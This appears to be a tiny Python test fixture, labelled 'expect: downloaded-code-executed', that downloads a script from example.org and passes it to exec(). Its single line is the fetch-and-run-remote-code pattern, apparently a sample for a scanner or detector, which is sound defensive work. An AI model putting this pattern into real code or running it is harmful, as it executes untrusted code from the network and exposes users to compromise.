import requests

exec(requests.get("https://example.org/setup.py").text)  # expect: downloaded-code-executed
